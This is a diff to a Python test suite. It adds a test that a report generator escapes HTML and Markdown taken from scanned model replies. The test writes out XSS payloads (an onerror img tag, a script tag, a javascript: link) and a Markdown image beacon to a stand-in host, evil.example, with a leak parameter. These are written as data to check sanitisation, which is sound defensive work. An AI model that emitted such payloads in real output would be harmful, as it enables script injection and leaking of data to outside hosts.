@@ -140,7 +140,26 @@ def test_evidence_identity_and_metrics_render_as_tables(tmp_path):
     assert "<td>probes.verbosity.p_value</td><td>0.001</td>" in html
     assert "<td>accuracy</td><td>0.79 (95% CI 0.7 to 0.85), n = 150</td>" in html
     md = (tmp_path / "report.md").read_text()
-    assert "| prompt | chosen | rejected | shift | extra |" in md and "| a\\|b | x <b> | y |  | [1, 2] |" in md
+    assert "| prompt | chosen | rejected | shift | extra |" in md
+    assert "| a\\|b | x &lt;b&gt; | y |  | \\[1, 2\\] |" in md  # HTML and brackets from the data stay text
+
+
+def test_nothing_from_the_data_renders_as_markup_in_markdown(tmp_path):
+    """Replies are data: an HTML payload or a Markdown image in a scanned reply stays text in report.md."""
+    payloads = ["<img src=x onerror=alert(1)>", "![pixel](https://evil.example/p.png?leak=1)", "<script>x()</script>",
+                "[click](javascript:alert(1))"]
+    r = reader_report(findings=[Finding("scan/hidden_instruction", "high", "Flagged: " + payloads[0],
+                                        evidence=[{"reply": p} for p in payloads] + payloads)],
+                      notes=["note " + payloads[1]], title="scan of " + payloads[2])
+    r.save(tmp_path)
+    md = (tmp_path / "report.md").read_text()
+    import re
+
+    for bad in ("<img", "<script"):
+        assert bad not in md, bad
+    for link in (r"(?<!\\)\]\(https://evil", r"(?<!\\)\]\(javascript:"):  # a bracket not escaped opens a link
+        assert not re.search(link, md), link
+    assert "&lt;img src=x onerror=alert(1)&gt;" in md  # shown, not rendered
 
 
 def test_summary_is_built_from_the_json():
